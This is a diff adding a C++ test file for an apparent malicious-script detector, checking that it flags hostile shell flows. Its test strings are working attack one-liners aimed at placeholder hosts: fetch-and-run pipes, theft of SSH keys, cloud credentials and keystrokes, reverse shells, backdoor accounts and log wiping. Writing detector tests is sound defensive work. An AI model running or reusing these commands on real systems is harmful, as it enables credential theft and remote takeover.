@@ -1,0 +1,155 @@
+#include "examine/scripts/scripts.h"
+
+#include <gtest/gtest.h>
+
+#include <fmt/format.h>
+#include <random>
+
+#include "evidence/recorder.h"
+
+using namespace evidence;
+
+namespace {
+
+Reading read(std::string_view text, std::string_view language) {
+  return read_alone(examine::scripts(), base::bytes_of(text), fmt::format("script/{}", language));
+}
+
+/// "flow value (confidence)" and "facet:word value", for messages.
+std::string told(const Reading& r) {
+  std::string out;
+  for (const auto& i : r.sink.items)
+    out += fmt::format("{}:{} {} [{}] at {}\n", name_of(i.facet), i.word, i.value, name_of(i.confidence), i.range.offset);
+  return out;
+}
+
+bool flows(const Reading& r, std::string_view value, Confidence least = Confidence::medium) {
+  for (const auto& i : r.sink.all(Facet::flow))
+    if (i.value == value && i.confidence >= least) return true;
+  return false;
+}
+
+bool no_flow(const Reading& r) {
+  for (const auto& i : r.sink.all(Facet::flow))
+    if (i.confidence > Confidence::low) return false;
+  return true;
+}
+
+struct Case {
+  std::string_view script;
+  std::string_view flow;
+};
+
+}  // namespace
+
+#define EXPECT_FLOW(text, language, value)                   \
+  do {                                                       \
+    const auto r = read(text, language);                     \
+    EXPECT_TRUE(flows(r, value)) << text << "\n" << told(r); \
+  } while (false)
+#define EXPECT_NO_FLOW(text, language)               \
+  do {                                               \
+    const auto r = read(text, language);             \
+    EXPECT_TRUE(no_flow(r)) << text << "\n" << told(r); \
+  } while (false)
+
+TEST(Shell, WhatIsFetchedAndRun) {
+  for (const auto text : {
+           "curl http://x.invalid/i | sh\n",
+           "curl -fsSL https://x.invalid/i.sh | sudo -E bash -\n",
+           "wget -qO- http://x.invalid/i | bash -s -- --yes\n",
+           "bash -c \"$(curl -fsSL http://x.invalid/i)\"\n",
+           "curl -o /tmp/x http://x.invalid/x\nchmod +x /tmp/x\n/tmp/x &\n",
+           "cd /tmp; wget http://x.invalid/run.sh; sh run.sh\n",
+           "T=$(mktemp)\ncurl -s \"$URL\" -o \"$T\"\nsh \"$T\"\n",
+           "f() { curl -s http://x.invalid/$1; }\nf a | sh\n",
+       })
+    EXPECT_FLOW(text, "shell", "network to execute-command");
+  EXPECT_FLOW("source <(curl -s http://x.invalid/i)\n", "shell", "network to evaluate");
+  EXPECT_FLOW("eval \"$(wget -qO- http://x.invalid/i)\"\n", "shell", "network to evaluate");
+  EXPECT_FLOW("curl -o a http://x.invalid/x\nchmod 755 a\n", "shell", "network to write-executable");
+}
+
+TEST(Shell, CheckedDownloadsAreAuthenticated) {
+  const auto r = read("curl -O http://x.invalid/a.sh\ncurl -O http://x.invalid/a.sh.sig\ngpg --verify a.sh.sig a.sh || exit 1\nsh a.sh\n", "shell");
+  EXPECT_TRUE(no_flow(r)) << told(r);
+  EXPECT_FLOW("curl -O http://x.invalid/a.sh\ngpg --verify a.sh.sig a.sh || true\nsh a.sh\n", "shell", "network to execute-command");
+  EXPECT_NO_FLOW("wget http://x.invalid/a.sh\necho \"00ff  a.sh\" | sha256sum -c - || exit 1\nsh a.sh\n", "shell");
+}
+
+TEST(Shell, PrivateThingsThatLeave) {
+  EXPECT_FLOW("curl -F 'k=@/root/.ssh/id_rsa' http://x.invalid/\n", "shell", "credentials to network");
+  EXPECT_FLOW("tar cz ~/.ssh ~/.aws | curl -T - http://x.invalid/u\n", "shell", "credentials to network");
+  EXPECT_FLOW("env | curl -X POST --data-binary @- http://x.invalid/\n", "shell", "environment to network");
+  EXPECT_FLOW("D=$(printenv | base64 -w0)\nwget -q \"http://x.invalid/?d=$D\"\n", "shell", "environment to network");
+  EXPECT_FLOW("cat ~/.aws/credentials > /dev/tcp/192.0.2.1/99\n", "shell", "credentials to network");
+  EXPECT_FLOW("X=$(cat $HOME/.ssh/id_ed25519 | xxd -p)\ndig $X.x.invalid\n", "shell", "credentials to dns");
+  EXPECT_FLOW("xclip -o | nc 192.0.2.1 80\n", "shell", "clipboard to network");
+  EXPECT_FLOW("scrot /tmp/s.png; curl -F f=@/tmp/s.png http://x.invalid/\n", "shell", "screen to network");
+  EXPECT_FLOW("tar czf /tmp/a.tgz ~/.gnupg\nscp /tmp/a.tgz u@x.invalid:\n", "shell", "keys to network");
+  EXPECT_FLOW("xinput test 9 | while read l; do echo $l | nc 192.0.2.1 80; done\n", "shell", "keystrokes to network");
+  EXPECT_FLOW("curl \"http://x.invalid/?h=$(hostname)&u=$(whoami)&i=$(id)\"\n", "shell", "device-id to network");
+}
+
+TEST(Shell, ShellsForTheNetwork) {
+  for (const auto text : {
+           "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
+           "nc -e /bin/sh 192.0.2.1 4444\n",
+           "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f\n",
+           "socat TCP:192.0.2.1:4444 EXEC:/bin/sh\n",
+       })
+    EXPECT_FLOW(text, "shell", "network to open-shell");
+  EXPECT_FLOW("exec 5<>/dev/tcp/192.0.2.1/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done\n", "shell", "network to execute-command");
+}
+
+TEST(Shell, DecodedCode) {
+  const auto r = read("echo Y3VybCBodHRwOi8veC5pbnZhbGlkfHNo | base64 -d | sh\n", "shell");
+  EXPECT_TRUE(flows(r, "decoded-string to execute-command")) << told(r);
+  ASSERT_EQ(r.sink.children.size(), 1u);
+  EXPECT_EQ(base::text_of(r.sink.children[0].bytes), "curl http://x.invalid|sh");
+  EXPECT_EQ(r.sink.children[0].entry.origin, artifact::Origin::decoded);
+  EXPECT_FLOW("P=aWQ=\neval \"$(echo $P | base64 --decode)\"\n", "shell", "decoded-string to evaluate");
+  const auto python = read("python3 -c 'import os; print(1)'\n", "shell");
+  ASSERT_EQ(python.sink.children.size(), 1u);
+  EXPECT_EQ(python.sink.children[0].entry.kind, "script/python");
+}
+
+TEST(Shell, PlainFacts) {
+  EXPECT_TRUE(read("useradd -o -u 0 -g 0 sys\n", "shell").sink.has(Facet::trust, "backdoor-account"));
+  EXPECT_TRUE(read("echo 'root:pass1' | chpasswd\n", "shell").sink.has(Facet::trust, "hard-coded-credential"));
+  EXPECT_TRUE(read("echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys\n", "shell").sink.has(Facet::trust, "backdoor-account"));
+  EXPECT_TRUE(read("echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers\n", "shell").sink.has(Facet::account, "sudo"));
+  EXPECT_TRUE(read("(crontab -l; echo '* * * * * x') | crontab -\n", "shell").sink.has(Facet::power, "persist"));
+  EXPECT_TRUE(read("setenforce 0\n", "shell").sink.has(Facet::power, "disable-security"));
+  EXPECT_TRUE(read("history -c\n", "shell").sink.has(Facet::concealment, "log-tampering"));
+  EXPECT_TRUE(read("cp x.crt /usr/local/share/ca-certificates/\nupdate-ca-certificates\n", "shell").sink.has(Facet::command, "change-trust"));
+  EXPECT_FALSE(read("useradd -r -s /usr/sbin/nologin daemonx\n", "shell").sink.has(Facet::trust, "backdoor-account"));
+  EXPECT_TRUE(read("sh ./lib/x.sh\n", "shell").sink.has(Facet::reference, "runs", "./lib/x.sh"));
+  EXPECT_TRUE(read("node scripts/x.js\n", "shell").sink.has(Facet::reference, "runs", "scripts/x.js"));
+}
+
+TEST(Shell, TimeTriggers) {
+  EXPECT_TRUE(read("if [ $(date +%s) -gt 1893456000 ]; then curl http://x.invalid/; fi\n", "shell").sink.has(Facet::concealment, "time-trigger"));
+  EXPECT_FALSE(read("if [ $(date +%s) -gt 86400 ]; then curl http://x.invalid/; fi\n", "shell").sink.has(Facet::concealment, "time-trigger"));
+  EXPECT_FALSE(read("if [ $(date +%s) -gt 1893456000 ]; then echo old; fi\n", "shell").sink.has(Facet::concealment, "time-trigger"));
+}
+
+TEST(Shell, OrdinaryScriptsHaveNoFlow) {
+  for (const auto text : {
+           "#!/bin/sh\nset -e\n. /usr/share/debconf/confmodule\ndb_get x/y\nif [ \"$1\" = configure ]; then adduser --system x; fi\n",
+           "eval \"$(dpkg-architecture -s)\"\neval $ac_try\n",
+           "wget -O /tmp/data.tar.gz http://x.invalid/d.tgz\ntar xzf /tmp/data.tar.gz\n",
+           "# curl http://x.invalid | sh\necho 'curl http://x.invalid | sh'\n",
+           "ssh -i ~/.ssh/id_rsa user@host.invalid uptime\nchmod 600 ~/.ssh/id_rsa\n",
+           "for i in a b; do eval \"x_$i=1\"; done\n",
+           "if grep -q root /etc/passwd; then curl http://x.invalid/; fi\n",
+           "cat > /etc/cron.d/x <<EOF\n* * * * * root x\nEOF\n",
+       })
+    EXPECT_NO_FLOW(text, "shell");
+}
+
+TEST(Scripts, TruncatedAtEveryByteNeverCrashes) {
+  const std::string text = "X=$(cat ~/.ssh/id_rsa | base64); cat <<E | sh\n$X\nE\nf() { case $1 in a) curl -d @x \"http://x.invalid/${Y:-2}\" | sh;; esac; }\nf 2>&1\n";
+  for (const auto language : {"shell", "python", "javascript", "php", "ruby", "perl", "powershell"})
+    for (std::size_t n = 0; n <= text.size(); ++n) (void)read(text.substr(0, n), language);
+}
